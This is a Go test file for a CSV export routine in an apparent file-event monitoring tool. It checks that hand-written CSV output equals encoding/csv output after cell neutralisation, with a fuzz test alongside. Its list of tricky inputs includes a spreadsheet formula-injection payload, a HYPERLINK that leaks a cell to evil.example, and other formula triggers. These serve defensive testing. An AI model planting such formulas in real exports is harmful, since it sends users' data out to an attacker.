package api

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/telltale-dev/telltale/internal/csvsafe"
	"github.com/telltale-dev/telltale/internal/event"
	"github.com/telltale-dev/telltale/internal/eventgen"
)

// csvFields is the export's CSV record as strings: the reference appendCSVRow must match once
// encoding/csv has written it, its cells neutralised (csvsafe.Record).
func csvFields(e *event.FileEvent) []string {
	ts := func(t time.Time) string {
		if t.IsZero() {
			return ""
		}
		return t.UTC().Format(time.RFC3339Nano)
	}
	join := func(xs []string) string { return strings.Join(xs, ";") }
	exp := make([]string, len(e.Sharing.Exposure))
	for i, x := range e.Sharing.Exposure {
		exp[i] = string(x)
	}
	return []string{strconv.FormatInt(e.Event.ID, 10), ts(e.Timestamp), ts(e.Event.Inserted), string(e.Event.Action),
		string(e.Event.Observer), strconv.FormatInt(e.Event.ConnectionID, 10), e.Event.ConnectionName, e.User.Email, e.File.ID,
		e.File.Name, e.File.Path, strconv.FormatInt(e.File.Size, 10), e.File.Owner, string(e.File.Category), e.File.Hash.MD5,
		e.File.Hash.SHA256, e.File.Hash.SHA1, string(e.Sharing.LinkScope), join(e.Sharing.SharedWith), join(exp),
		join(e.Email.Recipients), e.Email.Sender, e.Email.Subject, strconv.FormatBool(e.Risk.Trusted), string(e.Risk.Severity),
		e.Source.IP, strconv.Itoa(e.Event.Count), join(e.Event.VendorIDs)}
}

func encodingCSV(t testing.TB, fields []string) []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	if err := w.Write(csvsafe.Record(fields)); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	return b.Bytes()
}

// TestAppendCSVRowIsEncodingCSV: the export's hand-written CSV is byte for byte what encoding/csv
// writes for the neutralised cells, for generated events and for fields that need quoting or
// neutralising (or look as if they do).
func TestAppendCSVRowIsEncodingCSV(t *testing.T) {
	evs := eventgen.New(eventgen.Options{Seed: 11, People: 50, Days: 30}).Batch(3000)
	tricky := []string{"", `a,b`, `say "hi"`, "two\nlines", "cr\rhere", " leading space", "\tleading tab", "\u00a0nbsp first",
		"\u2003em space", `\.`, `\.x`, "trailing space ", "semi;colon", `"`, `""`, ",", "ünïcödé", "x\r\n\"y\",z",
		`=HYPERLINK("http://evil.example/?leak="&A1,"Q3.xlsx")`, "+1", "-x", "@SUM(A1)", "\r=1", "=a,b", "'=quoted", "a=b"}
	for i, s := range tricky {
		e := evs[i]
		e.File.Name, e.Email.Subject, e.Event.ConnectionName, e.User.Email = s, s, s, s
		e.Email.Recipients = []string{s, "b@x.example", s}
		e.Sharing.SharedWith = []string{s}
		e.Event.VendorIDs = []string{"v1", s}
		e.Event.Inserted = time.Time{}
		evs = append(evs, e)
	}
	var row []byte
	for i := range evs {
		e := &evs[i]
		e.Event.ID = int64(i + 1)
		row = appendCSVRow(row[:0], e)
		if want := encodingCSV(t, csvFields(e)); !bytes.Equal(row, want) {
			t.Fatalf("event %d:\n got %q\nwant %q", i, row, want)
		}
	}
}

func FuzzAppendCSVField(f *testing.F) {
	for _, s := range []string{"", "plain", `q"uote`, "new\nline", " sp", `\.`, "\u0085next", "a,b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := append(appendCSVField(nil, s), '\n')
		if want := encodingCSV(t, []string{s}); !bytes.Equal(got, want) {
			t.Fatalf("%q: got %q, encoding/csv %q", s, got, want)
		}
	})
}
